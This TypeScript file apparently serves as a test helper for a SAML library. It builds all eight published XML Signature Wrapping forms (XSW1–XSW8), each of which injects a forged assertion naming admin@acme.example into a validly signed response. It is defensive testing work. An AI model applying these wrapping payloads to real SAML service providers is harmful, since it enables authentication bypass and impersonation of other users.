import { assertion, type Said, type samlIdentityProvider } from './identity-provider.ts';

const SIGNATURE = /<ds:Signature[\s\S]*?<\/ds:Signature>/;
const cut = (xml: string, part: RegExp) => xml.match(part)?.[0] ?? '';
const without = (xml: string, part: RegExp) => xml.replace(part, '');
const into = (xml: string, endOf: string, content: string) => xml.replace(`</${endOf}>`, `${content}</${endOf}>`);

export const inObject = (content: string) => `<ds:Object>${content}</ds:Object>`;

/**
 * The published forms of signature wrapping. Who has one signed response tries to get another assertion read, while the
 * signature still finds what it covers. The numbers are those of Somorovsky and others, "On Breaking SAML: Be Whoever You
 * Want to Be" (2012); CVE-2025-47949 is one of them.
 */
export function signatureWrapping(
  { signed, response }: Awaited<ReturnType<typeof samlIdentityProvider>>,
  said: Said = {},
) {
  /** What the attacker wants to be read. */
  const evil = assertion({ ...said, assertionId: '_evil', nameId: 'admin@acme.example' });
  /** An assertion that is signed; a response in which it is. */
  const signedAssertion = signed(assertion(said), said.assertionId ?? '_assertion');
  const assertionSigned = response(said);
  const assertionSignature = cut(signedAssertion, SIGNATURE);
  const bareAssertion = without(signedAssertion, SIGNATURE);
  /** A response that is signed, with a signed assertion; its own signature comes first. */
  const responseSigned = signed(assertionSigned, '_response');
  const responseSignature = cut(responseSigned, SIGNATURE);
  const bareResponse = without(responseSigned, SIGNATURE);
  const evilResponse = bareResponse.replace('ID="_response"', 'ID="_evil-response"').replace(signedAssertion, evil);
  const instead = (xml: string) => assertionSigned.replace(signedAssertion, xml);
  const beforeStatus = (xml: string) => evilResponse.replace('<samlp:Status>', `${xml}<samlp:Status>`);
  const inEvil = (xml: string) => evil.replace('<saml:Subject>', `${xml}<saml:Subject>`);
  return {
    evil,
    signedAssertion,
    assertionSigned,
    assertionSignature,
    bareAssertion,
    responseSigned,
    forms: {
      'XSW1: the signed response is inside of the signature of another': beforeStatus(
        into(responseSignature, 'ds:Signature', inObject(bareResponse)),
      ),
      'XSW2: the signed response is beside the signature that covers it': beforeStatus(
        `${responseSignature}${bareResponse}`,
      ),
      'XSW3: another assertion comes before the signed one': instead(`${evil}${signedAssertion}`),
      'XSW4: another assertion contains the signed one': instead(into(evil, 'saml:Assertion', signedAssertion)),
      'XSW5: another assertion has the signature, and the signed one comes last': instead(
        `${inEvil(assertionSignature)}${bareAssertion}`,
      ),
      'XSW6: another assertion has the signature, which contains the signed one': instead(
        inEvil(into(assertionSignature, 'ds:Signature', bareAssertion)),
      ),
      'XSW7: another assertion is in an extension before the signed one': instead(
        `<samlp:Extensions>${evil}</samlp:Extensions>${signedAssertion}`,
      ),
      'XSW8: the signed assertion is in an object of the signature of another': instead(
        inEvil(into(assertionSignature, 'ds:Signature', inObject(bareAssertion))),
      ),
    },
  };
}
